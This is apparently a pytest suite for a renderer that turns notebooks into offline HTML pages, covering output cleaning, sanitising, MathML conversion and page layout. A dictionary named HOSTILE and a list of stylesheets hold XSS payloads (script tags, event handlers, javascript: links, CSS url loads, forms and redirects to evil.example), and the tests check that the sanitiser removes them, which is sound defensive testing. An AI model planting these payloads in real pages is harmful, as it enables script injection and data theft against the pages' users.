"""The rendered page: readable without a network, safe to open, the same for the same run."""

from __future__ import annotations

import ast
import base64
import html
import io
import json
import os
import re
from html.parser import HTMLParser
from urllib.parse import quote

import nbformat.v4 as nb
import pytest
from conftest import ROOT
from PIL import Image

from dvpo_lib.chain.pages import (
    INJECTED_ID,
    WIDGET_STATE,
    WIDGET_VIEW,
    PageLinks,
    clean_notebook,
    index_page,
    latex_to_mathml,
    lay_out_page,
    neighbour_links,
    page_body,
    render_page,
    sanitize_html,
)
from dvpo_lib.chain.stages import read_stages


def notebook(*outputs, **metadata):
    cell = nb.new_code_cell("1", outputs=list(outputs), id="a", metadata={"execution": {"start": "12:00"}})
    injected = nb.new_code_cell("x = 1", metadata={"tags": [INJECTED_ID]})
    return nb.new_notebook(cells=[cell, injected], metadata={"papermill": {"duration": 3}, **metadata})


def stream(name, text):
    return nb.new_output("stream", name=name, text=text)


def test_clean_drops_what_differs_between_runs():
    cleaned = clean_notebook(
        notebook(stream("stdout", "a "), stream("stderr", "50%"), stream("stdout", "<f at 0x7f12>"))
    )
    assert [output.text for output in cleaned.cells[0].outputs] == ["a <f>"]
    assert set(cleaned.metadata) == {"kernelspec", "language_info"} and cleaned.cells[0].metadata == {}
    assert [cell.id for cell in cleaned.cells] == ["a", INJECTED_ID]


def test_clean_keeps_the_picture_inside_a_widget():
    state = {
        "box": {"state": {"children": ["IPY_MODEL_slider", "IPY_MODEL_out"]}},
        "slider": {"state": {"value": 1}},
        "out": {"state": {"outputs": [{"output_type": "display_data", "data": {"image/png": "AAAA"}, "metadata": {}}]}},
    }
    view = nb.new_output("display_data", data={WIDGET_VIEW: {"model_id": "box"}, "text/plain": "interactive(...)"})
    cleaned = clean_notebook(notebook(view, widgets={WIDGET_STATE: {"state": state}}))
    assert [output.data for output in cleaned.cells[0].outputs] == [{"image/png": "AAAA"}]
    assert "data:image/png;base64,AAAA" in render_page(cleaned, "t")


def test_page_needs_no_network_and_runs_no_script():
    unsafe = nb.new_output("display_data", data={"text/html": "<b onclick='x()'>b</b><script>x()</script>"})
    page = render_page(clean_notebook(notebook(unsafe, stream("stdout", "<i>"))), "A & B")
    assert "<script" not in page and "onclick" not in page
    assert "&lt;i&gt;" in page and "<title>A &amp; B</title>" in page
    assert "content=\"default-src 'none'" in page


def test_tables_with_styles_survive_the_sanitiser():
    styled = (
        "<style type='text/css'>#T_1 td {color: red}</style><table id='T_1'><thead><tr><th colspan='2'>A</th>"
        "</tr></thead><tbody><tr><td style='color: red'>1 &lt; 2</td></tr></tbody></table>"
    )
    cleaned = sanitize_html(styled)
    assert "<style>#T_1 td {color: red}</style>" in cleaned
    assert '<th colspan="2">A</th>' in cleaned and "1 &lt; 2" in cleaned


@pytest.mark.parametrize(
    "sheet",
    [
        "#T_1 td {background: url(http://x)}",
        "#T_1 td {background: u\\72l(http://x)}",
        "@import 'http://x';",
        "body {display: none}",
        "#T_1 td {color: red} body {display: none}",
        "#T_1 td, body {display: none}",
        "#T_1 td {color: red}</style><script>x()</script><style>",
    ],
)
def test_style_sheets_that_load_or_reach_beyond_their_table_are_dropped(sheet):
    cleaned = sanitize_html(f"<style>{sheet}</style><p>text</p>")
    assert "http" not in cleaned and "display" not in cleaned and "<script" not in cleaned
    assert cleaned.endswith("<p>text</p>")


HOSTILE = {
    "script": "<script>x()</script>",
    "script in capitals": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "script with line feeds": "</b><script\n>x()</script\n>",
    "unclosed script": "<script>x()",
    "handler": "<img src=x onerror=x()>",
    "handler after a slash": "<b/onclick=x()>b</b>",
    "javascript link": "<a href='javascript:x()'>a</a>",
    "javascript link with a tab": "<a href='java\tscript:x()'>a</a>",
    "javascript link in entities": "<a href='&#106;avascript&colon;x()'>a</a>",
    "data link": "<a href='data:text/html,<script>x()</script>'>a</a>",
    "style that loads": "<p style='background: url(//evil.example)'>p</p>",
    "style in escapes": "<p style='background-color: \\75rl(//evil.example)'>p</p>",
    "style that covers the page": "<p style='position: fixed; top: 0'>p</p>",
    "frame": "<iframe srcdoc='<script>x()</script>'></iframe>",
    "object": "<object data='//evil.example/x.swf'></object>",
    "form": "<form action='//evil.example'><input name=a></form>",
    "vector image": "<svg onload=x()><script>x()</script></svg>",
    "MathML link": "<math><mi href='javascript:x()' xlink:href='javascript:x()'>a</mi></math>",
    "MathML with HTML inside": "<math><mtext><table><mglyph><style><img src=x onerror=x()></style></table></math>",
    "page address": "<base href='//evil.example'><meta http-equiv=refresh content='0;url=//evil.example'>",
    "comment": "<!-- --><img src=x onerror=x()>",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_text_of_a_model_cannot_act_in_a_page(text):
    """As HTML output, as Markdown and as printed text of a notebook."""
    output = nb.new_output("display_data", data={"text/html": f"<table><tr><td>{text}</td></tr></table>"})
    page = notebook(output, stream("stdout", text))
    page.cells += [nb.new_markdown_cell(f"before {text} after", id="m")]
    assert acts(f"<td>{text}</td>"), "the example itself must be found"
    assert acts(render_page(clean_notebook(page), text).partition("</head>")[2]) == []


def acts(page: str) -> list:
    """Everything in a page that runs, loads or covers: tags, attributes and addresses as a browser would find them."""
    found = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag, attributes):
            if tag in "script style iframe object embed svg form input base meta link mglyph".split():
                found.append(tag)
            for name, value in attributes:
                address = re.sub(r"[\x00-\x20]", "", value or "").lower()
                if name.startswith("on") or address.startswith(("javascript:", "data:text")):
                    found.append((tag, name, value))
                if name == "style" and re.search(r"url|position|\\", address):
                    found.append((tag, name, value))

    Reader().feed(page)
    return found


def test_words_in_angle_brackets_stay_readable():
    assert sanitize_html("<p>book <eos> 1 < 2 & 3</p>") == "<p>book &lt;eos&gt; 1 &lt; 2 &amp; 3</p>"


def test_links_pictures_styles_and_mathematics_survive_the_sanitiser():
    kept = (
        '<a href="https://x.example/a">a</a><a href="../b.html">b</a><img src="data:image/png;base64,AAAA" alt="c">'
        '<p style="color:red;text-align:right">d</p><details open=""><summary>e</summary></details>'
        '<math display="block"><mfrac linethickness="0"><mi mathvariant="bold">x</mi><mn>2</mn></mfrac></math>'
    )
    assert sanitize_html(kept) == kept


@pytest.mark.parametrize(
    ("latex", "expected"),
    [
        (r"\hat q_j \le 1", "<mo>^</mo>"),
        (r"\mathcal{L} + \mathbb{E}[G]", "ℒ"),
        (r"\begin{aligned} a &= b \\ c &= d \end{aligned}", "<mtable"),
        (r"\begin{cases} 1 & x > 0 \\ 0 & \text{otherwise} \end{cases}", "otherwise"),
        (r"\bar Z_{t+1,j} + \gamma\lambda A_{t+1,j}", "<msub>"),
        (r"\operatorname{relu}(x)", "relu"),
    ],
)
def test_mathematics_becomes_mathml(latex, expected):
    found = latex_to_mathml(latex, "block")
    assert found.startswith("<math ") and 'display="block"' in found and expected in html.unescape(found)
    assert "\\" not in found and "&amp;" not in found


def test_mathematics_that_cannot_be_converted_is_shown_as_written():
    assert latex_to_mathml(r"x^{a}^{b} <", "inline") == r"<code>x^{a}^{b} &lt;</code>"


# ---- layout ----


def picture() -> str:
    """A PNG of 40 x 30 pixels in base64."""
    file = io.BytesIO()
    Image.new("RGB", (40, 30)).save(file, "PNG")
    return base64.b64encode(file.getvalue()).decode()


def test_headings_figures_and_tables_get_their_places():
    image = nb.new_output("display_data", data={"image/png": picture()})
    page = notebook(
        image, image, nb.new_output("display_data", data={"text/html": "<table><tr><td>1</td></tr></table>"})
    )
    page.cells.append(nb.new_markdown_cell("# Top\n## What <b>is</b> it?\n## What is it?\n### Detail", id="m"))
    links = PageLinks(("i.html", "All"), previous=("a.html", "A & B"), following=("c.html", "C"))
    shown = render_page(clean_notebook(page), "t", links)
    for anchor in ("What-is-it?", "What-is-it?-2", "Detail", "large-1", "large-2", "figure-1", "figure-2"):
        assert shown.count(f'id="{anchor}"') == 1 and f'href="#{quote(anchor)}"' in shown
    assert 'style="aspect-ratio: 40 / 30; max-width: 40px"' in shown and shown.count(picture()) == 2
    assert '<div class="table" tabindex="0"' in shown and "A &amp; B" in shown and 'href="#Top"' not in shown
    assert lay_out_page(page_body(shown), "t", links) == shown  # a page can be laid out again


def test_pages_lead_from_one_to_the_next():
    """Every address that a page of the chain gives its neighbours is the page of a stage, or its place on the index."""
    stages = read_stages(ROOT)
    names, seen = list(stages), set()
    index = index_page(
        "All", "text", {s: os.path.relpath(f"{stages[s].results}/notebook.html", "results/05_report") for s in names}
    )
    places = {f"index.html#{anchor}" for anchor in re.findall(r'id="([^"]+)"', index)} | {"index.html"}
    for name in names:
        links = neighbour_links(stages, name)
        assert (links.previous is None) == (name == names[0]) and (links.following is None) == (name == names[-1])
        for address, _ in filter(None, (links.home, links.previous, links.following)):
            file = os.path.normpath(os.path.join(stages[name].results, address))
            seen.add(file)
            assert (
                any(file in spec.outs for spec in stages.values()) or file.removeprefix("results/05_report/") in places
            )
    assert {
        f"{stages[name].results}/notebook.html" for name in ("method", "data", "critics", "ablations", "report")
    } < seen


def test_index_lists_every_page_once_beside_figure_and_findings():
    pages = {
        "A": "../00_a/notebook.html",
        "B": "../03_b/x/notebook.html",
        "C": "../03_b/y/notebook.html",
        "D": "notebook.html",
    }
    shown = index_page("Run", "- **found** <script>x()</script>", pages, base64.b64decode(picture()))
    assert all(shown.count(f'href="{address}"') == 1 for address in pages.values())
    assert "<strong>found</strong>" in shown and "<script" not in shown and picture() in shown


@pytest.mark.parametrize("notebook", sorted((ROOT / "notebooks").glob("*.ipynb")), ids=lambda path: path.stem)
def test_no_cell_shows_the_number_of_characters_that_it_wrote(notebook):
    for cell in json.loads(notebook.read_text(encoding="utf-8"))["cells"]:
        if cell["cell_type"] == "code" and (nodes := ast.parse("".join(cell["source"])).body):
            shown = nodes[-1].value if isinstance(nodes[-1], ast.Expr) else None
            name = shown.func.attr if isinstance(shown, ast.Call) and isinstance(shown.func, ast.Attribute) else ""
            assert name not in ("write", "write_text", "write_bytes"), "".join(cell["source"])
